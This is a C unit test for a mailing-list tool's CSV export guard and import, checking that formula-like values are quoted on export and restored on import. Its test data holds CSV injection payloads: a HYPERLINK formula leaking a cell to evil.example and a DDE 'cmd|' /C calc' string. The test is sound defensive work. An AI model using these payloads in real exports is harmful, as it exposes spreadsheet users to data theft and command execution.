/* test_csvguard.c - CSV injection: the export's guard (a leading quote
 * before =, +, -, @, a tab, a CR or a quote) and the import taking it
 * off: every text survives, none opens as a formula. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "buf.h"
#include "csvimport.h"
#include "store.h"
#include "unit.h"
#include "util.h"

static const char *const texts[] = {
	"=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Cliquez\")", "+33 1 23",
	"-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1", "\r=1", "'", "''",
	"'=already quoted", "''=x", "'abc", "O'Brien", "Camille", "", "=",
	"a=b", " =x", "'\t", NULL,
};

/* The guarded form of s, as the export writes it. */
static char *
guard(const char *s)
{
	return csvimport_needs_guard(s) ? xasprintf("'%s", s) : xstrdup(s);
}

static void
test_guard(void)
{
	CHECK(csvimport_needs_guard("=1+1"));
	CHECK(csvimport_needs_guard("+1"));
	CHECK(csvimport_needs_guard("-1"));
	CHECK(csvimport_needs_guard("@x"));
	CHECK(csvimport_needs_guard("\tx"));
	CHECK(csvimport_needs_guard("\rx"));
	CHECK(csvimport_needs_guard("'=x"));
	CHECK(csvimport_needs_guard("''"));
	CHECK(!csvimport_needs_guard("'"));
	CHECK(!csvimport_needs_guard("'abc"));
	CHECK(!csvimport_needs_guard("Camille"));
	CHECK(!csvimport_needs_guard(""));
	CHECK(!csvimport_needs_guard(" =x"));
	for (int i = 0; texts[i]; i++) {
		char *g = guard(texts[i]);
		/* nothing guarded starts a formula any more */
		CHECK(!strchr("=+-@\t\r", g[0]) || !g[0]);
		csvimport_unguard(g);
		CHECK_STR(g, texts[i]);
		free(g);
	}
}

static int
collect(void *ctx, const struct subscriber *s)
{
	struct buf *b = ctx;

	buf_printf(b, "%s|%s\n", s->email, s->name);
	return 0;
}

/* An export's rows import back with the names as they were typed. */
static void
test_import(void)
{
	static const unsigned char key[] = "0123456789abcdef0123456789abcdef";
	static const char csv[] = "email,name\r\n"
		"\"'=1+1@example.org\",\"'=HYPERLINK(\"\"https://evil.example/\"\")\"\r\n"
		"a@example.org,\"'-2+3\"\r\n"
		"b@example.org,\"''=already quoted\"\r\n"
		"c@example.org,'abc\r\n"
		"d@example.org,\"'@SUM(1)\"\r\n";
	struct store *st = NULL;
	struct csvimport_stats stats;
	struct csvimport_opts o = { false, false, NULL, NULL };
	struct buf got = BUF_INIT;
	char *err = NULL;
	FILE *f;

	CHECK_INT(store_open(":memory:", key, sizeof(key) - 1, &st, &err), 0);
	if (!st)
		return;
	f = fmemopen((void *)csv, sizeof(csv) - 1, "rb");
	CHECK_INT(csvimport_file(st, f, "x.csv", &o, NULL, NULL, &stats, &err),
		0);
	fclose(f);
	CHECK_INT(store_list(st, -1, collect, &got, &err), 0);
	CHECK_STR(got.data, "=1+1@example.org|=HYPERLINK(\"https://evil.example/\")\n"
		"a@example.org|-2+3\n"
		"b@example.org|'=already quoted\n"
		"c@example.org|'abc\n"
		"d@example.org|@SUM(1)\n");
	buf_free(&got);
	store_close(st);
	free(err);
}

int
main(void)
{
	RUN(test_guard);
	RUN(test_import);
	return 0;
}
